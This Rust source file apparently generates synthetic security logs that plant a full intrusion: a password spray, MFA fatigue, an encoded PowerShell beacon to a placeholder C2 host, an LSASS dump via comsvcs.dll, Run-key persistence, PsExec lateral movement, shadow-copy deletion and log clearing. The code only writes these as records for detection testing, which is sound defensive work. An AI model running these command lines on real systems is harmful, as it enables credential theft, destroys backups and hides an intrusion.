//! The planted intrusion: from a password spray at the identity provider to a cleared log on
//! the file server, as records at fixed offsets from its start.

use crate::{ATTACKER_IP, C2_DOMAIN, C2_IP, FIRST_NAMES, Generator, IdentityEvent, Record, Story};
use jiff::SignedDuration;
use serde_json::json;

impl Generator {
    /// The intrusion, as records at fixed offsets from its start.
    pub(crate) fn plan_intrusion(&mut self, offset_seconds: i64, victim: usize) -> Vec<Record> {
        let start = self.scenario.start + SignedDuration::from_secs(offset_seconds);
        let victim_host = victim % self.users.len();
        let victim = self.users[victim_host].clone();
        // Each intrusion of a load test comes from its own address.
        let attacker_ip = if offset_seconds == 0 || self.story.is_none() {
            ATTACKER_IP.to_string()
        } else {
            format!("203.0.113.{}", 67 + (offset_seconds / 60) % 180)
        };
        let server = self.hosts.len() - 2;
        let account = format!("CORP\\{victim}");
        let at = |seconds: i64| start + SignedDuration::from_secs(seconds);
        let mut records = Vec::new();
        // 1. Password spray from one address across many accounts (the identity provider
        // knows more people than have a workstation here).
        for (i, user) in FIRST_NAMES.iter().take(10).enumerate() {
            records.push(self.okta(
                at(i as i64 * 5),
                IdentityEvent {
                    event_type: "user.session.start",
                    message: "User login to Okta",
                    user,
                    ip: &attacker_ip,
                    result: "FAILURE",
                    reason: Some("INVALID_CREDENTIALS"),
                },
            ));
        }
        // 2. The victim's password works; push notifications until the victim gives in.
        records.push(self.okta(
            at(70),
            IdentityEvent {
                event_type: "user.session.start",
                message: "User login to Okta",
                user: &victim,
                ip: &attacker_ip,
                result: "SUCCESS",
                reason: None,
            },
        ));
        for i in 0..4 {
            records.push(self.okta(
                at(75 + i * 10),
                IdentityEvent {
                    event_type: "user.mfa.okta_verify.deny_push",
                    message: "User rejected Okta push verify",
                    user: &victim,
                    ip: &attacker_ip,
                    result: "FAILURE",
                    reason: Some("USER_REJECTED"),
                },
            ));
        }
        records.push(self.okta(
            at(120),
            IdentityEvent {
                event_type: "user.authentication.auth_via_mfa",
                message: "Authentication of user via MFA",
                user: &victim,
                ip: &attacker_ip,
                result: "SUCCESS",
                reason: None,
            },
        ));
        // 3. On the victim's workstation: a remote desktop logon from the same address.
        let logon_id = "0x8f31a2";
        records.push(self.windows(victim_host, at(180), "Security", "Microsoft-Windows-Security-Auditing", 4624, json!({
            "TargetUserName": victim, "TargetDomainName": "CORP", "TargetLogonId": logon_id,
            "LogonType": 10, "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate",
            "IpAddress": attacker_ip, "WorkstationName": "KALI",
        })));
        // 4. Execution: encoded PowerShell from Explorer, beaconing out.
        let explorer = self.guid();
        let (record, powershell) = self.process(victim_host, at(240), &account, (&explorer, "C:\\Windows\\explorer.exe"),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
        records.push(record);
        records.push(self.windows(victim_host, at(245), "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 22, json!({
            "ProcessGuid": powershell, "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "User": account, "QueryName": C2_DOMAIN, "QueryStatus": "0", "QueryResults": format!("::ffff:{C2_IP};"),
        })));
        let source_ip = self.hosts[victim_host].ip.clone();
        records.push(self.windows(victim_host, at(246), "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 3, json!({
            "ProcessGuid": powershell, "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "User": account, "Protocol": "tcp", "Initiated": "true", "SourceIp": source_ip, "SourcePort": 51234,
            "DestinationIp": C2_IP, "DestinationPort": 443, "DestinationHostname": C2_DOMAIN,
        })));
        // 5. Discovery.
        for (offset, command, image) in [
            (300, "whoami /all", "C:\\Windows\\System32\\whoami.exe"),
            (
                320,
                "net group \"domain admins\" /domain",
                "C:\\Windows\\System32\\net.exe",
            ),
            (
                340,
                "nltest /dclist:corp.example",
                "C:\\Windows\\System32\\nltest.exe",
            ),
            (360, "systeminfo", "C:\\Windows\\System32\\systeminfo.exe"),
        ] {
            records.push(
                self.process(
                    victim_host,
                    at(offset),
                    &account,
                    (
                        &powershell,
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    ),
                    image,
                    command,
                )
                .0,
            );
        }
        // 6. Credential access: LSASS dumped through comsvcs.dll.
        let (record, rundll) = self.process(victim_host, at(420), &account, (&powershell, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 C:\\Users\\Public\\m.dmp full");
        records.push(record);
        records.push(self.windows(victim_host, at(421), "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 10, json!({
            "SourceProcessGUID": rundll, "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
            "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1FFFFF",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1c4e0",
        })));
        // 7. Persistence: a Run key on the workstation.
        records.push(self.windows(victim_host, at(480), "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 13, json!({
            "EventType": "SetValue", "ProcessGuid": powershell,
            "Image": "C:\\Windows\\System32\\reg.exe",
            "TargetObject": format!("HKU\\S-1-5-21-1111-2222-3333-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate"),
            "Details": "C:\\Users\\Public\\upd.exe", "User": account,
        })));
        // 8. Lateral movement to the file server with the victim's account: a service.
        records.push(self.windows(
            server,
            at(600),
            "Security",
            "Microsoft-Windows-Security-Auditing",
            4624,
            json!({
                "TargetUserName": victim, "TargetDomainName": "CORP", "TargetLogonId": "0x9e2b11",
                "LogonType": 3, "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": "NTLM",
                "IpAddress": source_ip, "WorkstationName": "WS01",
            }),
        ));
        records.push(self.windows(server, at(605), "System", "Service Control Manager", 7045, json!({
            "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
        })));
        let services = self.guid();
        let (record, psexesvc) = self.process(
            server,
            at(606),
            "NT AUTHORITY\\SYSTEM",
            (&services, "C:\\Windows\\System32\\services.exe"),
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
        );
        records.push(record);
        records.push(
            self.process(
                server,
                at(610),
                "NT AUTHORITY\\SYSTEM",
                (&psexesvc, "C:\\Windows\\PSEXESVC.exe"),
                "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c vssadmin delete shadows /all /quiet",
            )
            .0,
        );
        // 9. Defense evasion: the file server's Security log cleared.
        records.push(self.windows(server, at(660), "Security", "Microsoft-Windows-Eventlog", 1102, json!({
            "SubjectUserName": victim, "SubjectDomainName": "CORP", "SubjectLogonId": "0x9e2b11",
        })));
        if self.story.is_none() {
            self.story = Some(Story {
                victim,
                workstation: self.hosts[victim_host].name.clone(),
                server: self.hosts[server].name.clone(),
                attacker_ip: ATTACKER_IP,
                steps: vec![
                    "password spray against the identity provider",
                    "MFA push fatigue, then a successful sign-in",
                    "remote desktop logon from the attacker's address",
                    "encoded PowerShell beaconing to a command-and-control server",
                    "discovery of users, groups and domain controllers",
                    "LSASS dumped with comsvcs.dll",
                    "Run key persistence",
                    "lateral movement to the file server through a PsExec service",
                    "shadow copies deleted and the Security log cleared",
                ],
            });
        }
        records
    }
}
